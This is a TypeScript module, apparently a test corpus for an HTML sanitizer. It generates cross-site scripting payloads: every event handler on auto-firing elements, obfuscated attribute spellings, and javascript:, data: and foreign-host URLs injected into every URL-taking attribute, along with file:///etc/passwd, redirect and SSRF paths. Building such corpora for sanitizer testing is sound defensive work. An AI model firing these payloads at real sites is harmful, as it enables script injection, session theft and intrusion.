import { act, foreign, hiddenActs, spellings } from './acts.ts'

const handlers =
  `abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
  beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click
  close contentvisibilityautostatechange contextlost contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave
  dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange hashchange input
  invalid keydown keypress keyup load loadeddata loadedmetadata loadstart message mousedown mouseenter mouseleave mousemove mouseout
  mouseover mouseup mousewheel mozfullscreenchange offline online pagehide pageshow paste pause play playing pointercancel pointerdown
  pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset
  resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show
  slotchange stalled start submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend
  transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationstart wheel`.split(/\s+/)

/** Elements whose event handler fires without interaction, with what triggers it. */
const willing: readonly [tag: string, attributes: string, handler: string][] = [
  ['img', 'src=x', 'error'],
  ['image', 'src=x', 'error'],
  ['video', 'src=x', 'error'],
  ['audio', 'src=x', 'error'],
  ['video', 'poster=x', 'loadstart'],
  ['input', 'autofocus', 'focus'],
  ['input', 'type=image src=x', 'error'],
  ['select', 'autofocus', 'focus'],
  ['textarea', 'autofocus', 'focus'],
  ['button', 'autofocus', 'focus'],
  ['a', 'href=# autofocus tabindex=1', 'focus'],
  ['details', 'open', 'toggle'],
  ['dialog', 'open popover', 'beforetoggle'],
  ['marquee', '', 'start'],
  ['marquee', 'loop=1 width=0', 'finish'],
  ['body', '', 'load'],
  ['body', '', 'pageshow'],
  ['html', '', 'load'],
  ['svg', '', 'load'],
  ['svg', 'width=1', 'begin'],
  ['iframe', 'src=about:blank', 'load'],
  ['iframe', 'srcdoc=x', 'load'],
  ['object', 'data=x', 'error'],
  ['embed', 'src=x', 'load'],
  ['link', 'rel=stylesheet href=x', 'error'],
  ['style', '', 'load'],
  ['script', 'src=x', 'error'],
  ['track', 'src=x default', 'error'],
  ['source', 'src=x', 'error'],
  ['frameset', '', 'load'],
  ['p', 'style="animation:x 1s" class=x', 'animationstart'],
  ['p', 'style="transition:color 1s" tabindex=0', 'transitionend'],
  ['p', 'style="content-visibility:auto"', 'contentvisibilityautostatechange'],
  ['td', 'contenteditable', 'blur'],
  ['x-own', '', 'click'],
  ['math', 'href=#', 'click'],
  ['form', 'id=a', 'submit'],
  ['meter', 'value=1', 'mouseover'],
]

const written: readonly ((name: string, code: string) => string)[] = [
  (name, code) => ` on${name}="${code}"`,
  (name, code) => ` ON${name.toUpperCase()}='${code}'`,
  (name, code) => `/on${name}=${code}`,
  (name, code) => `\ton${name}\n=\n"${code}"`,
  (name, code) => `\fon${name}=${code} `,
  (name, code) => ` x="\`" on${name}="${code}" y="`,
  (name, code) => ` on${name}="${code.replace('(', '&lpar;').replace(')', '&#41;')}"`,
  (name, code) => ` xml:on${name}="${code}" on${name}\u0000="${code}"`,
  (name, code) => `"on${name}="${code}"`,
  (name, code) => ` on${name}=${code}//`,
]

function* handlerPayloads(): Generator<string> {
  for (const name of handlers) {
    yield `<p on${name}="${act}" tabindex=0>on${name}</p>`
    yield `<a href="/m/home" ON${name}=${act}>x</a>`
  }
  for (const [tag, attributes, handler] of willing) {
    for (const write of written) yield `<${tag} ${attributes}${write(handler, act)}>x</${tag}>`
    yield `<${tag} ${attributes} on${handler}=${act}`
    yield `<p><${tag}/${attributes.replaceAll(' ', '/')}/on${handler}=${act}//`
  }
  for (const code of hiddenActs) {
    yield `<img src=x onerror="${code.replaceAll('"', '&quot;')}">`
    yield `<script>${code}</script>`
    yield `<svg><script>${code.replaceAll('<', '&lt;')}</script></svg>`
  }
}

/** Everything that takes a URL. */
const places: readonly ((address: string) => string)[] = [
  (a) => `<a href="${a}">x</a>`,
  (a) => `<a href='${a}' target=_self>x</a>`,
  (a) => `<a xlink:href="${a}">x</a>`,
  (a) => `<a href="/m/home" ping="${a}">x</a>`,
  (a) => `<area href="${a}" shape=default>`,
  (a) => `<map name=m><area href="${a}"></map><img usemap=#m src=banners/a.avif>`,
  (a) => `<img src="${a}">`,
  (a) => `<img srcset="${a} 1x, ${a} 2x" sizes=100vw>`,
  (a) => `<img dynsrc="${a}" lowsrc="${a}">`,
  (a) => `<picture><source srcset="${a}"><img src="${a}"></picture>`,
  (a) => `<video poster="${a}" src="${a}" autoplay>`,
  (a) => `<audio><source src="${a}"></audio>`,
  (a) => `<video><track default src="${a}"></video>`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<frameset><frame src="${a}"></frameset>`,
  (a) => `<object data="${a}"></object>`,
  (a) => `<object><param name=src value="${a}"><param name=movie value="${a}"></object>`,
  (a) => `<embed src="${a}">`,
  (a) => `<applet code="${a}" codebase="${a}"></applet>`,
  (a) => `<form action="${a}"><input type=submit autofocus></form>`,
  (a) => `<form><button formaction="${a}">x</button></form>`,
  (a) => `<isindex action="${a}" type=image>`,
  (a) => `<input type=image src="${a}" formaction="${a}">`,
  (a) => `<base href="${a}">`,
  (a) => `<link rel=stylesheet href="${a}">`,
  (a) => `<link rel=prefetch href="${a}"><link rel=preconnect href="${a}"><link rel=import href="${a}">`,
  (a) => `<meta http-equiv=refresh content="0;url=${a}">`,
  (a) => `<meta http-equiv=refresh content="0; ${a}">`,
  (a) => `<script src="${a}"></script>`,
  (a) => `<script type=module src="${a}"></script>`,
  (a) => `<body background="${a}">`,
  (a) => `<table background="${a}"><tr><td background="${a}">x`,
  (a) => `<blockquote cite="${a}">x</blockquote>`,
  (a) => `<p style="background:url('${a}')">x</p>`,
  (a) => `<p style=list-style-image:url(${a})>x`,
  (a) => `<style>@import "${a}";p{background:url(${a})}</style>`,
  (a) => `<svg><a href="${a}"><text y=9>x</text></a></svg>`,
  (a) => `<svg><a xlink:href="${a}"><rect width=9 height=9></a></svg>`,
  (a) => `<svg><use href="${a}#x"></use><image href="${a}"/></svg>`,
  (a) => `<svg><script href="${a}"/></svg>`,
  (a) => `<svg><a><animate attributeName=href values="${a}"/><text y=9>x</text></a></svg>`,
  (a) => `<svg><a><set attributeName=xlink:href to="${a}"/><text y=9>x</text></a></svg>`,
  (a) => `<svg><feImage xlink:href="${a}"/><filter><feImage href="${a}"/></filter></svg>`,
  (a) => `<math href="${a}">x</math>`,
  (a) => `<math><mi xlink:href="${a}">x</mi><maction actiontype=statusline href="${a}">x</maction></math>`,
  (a) => `<portal src="${a}"></portal><fencedframe src="${a}">`,
]

const addresses = [
  `javascript:${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`,
  foreign,
  foreign.slice('https:'.length),
  '/\\foreign.example/x',
  'http://foreign.example/x',
  'https://user@foreign.example/x',
  'https://help.parola.example@foreign.example/x',
  'https://help.parola.example.foreign.example/x',
  'blob:https://foreign.example/x',
  'filesystem:https://foreign.example/x',
  'file:///etc/passwd',
  'ftp://foreign.example/x',
  'intent://x#Intent;scheme=https;end',
  'tel:+1900',
  `feed:javascript:${act}`,
  `view-source:javascript:${act}`,
  '/wps/session/logout',
  '/m/../wps/session/logout',
  '/pictures?from=https://foreign.example/x.png',
  '/pictures?from=http://127.0.0.1/x.png',
  `/pictures?from=javascript:${act}`,
  '../../etc/passwd',
]

function* addressPayloads(): Generator<string> {
  for (const place of places) for (const address of addresses) yield place(address)
  for (const spell of spellings) {
    for (const place of [places[0], places[6], places[13], places[19], places[36]])
      if (place) yield place(spell(`javascript:${act}`))
  }
}

export const carrierPayloads = (): string[] => [...handlerPayloads(), ...addressPayloads()]
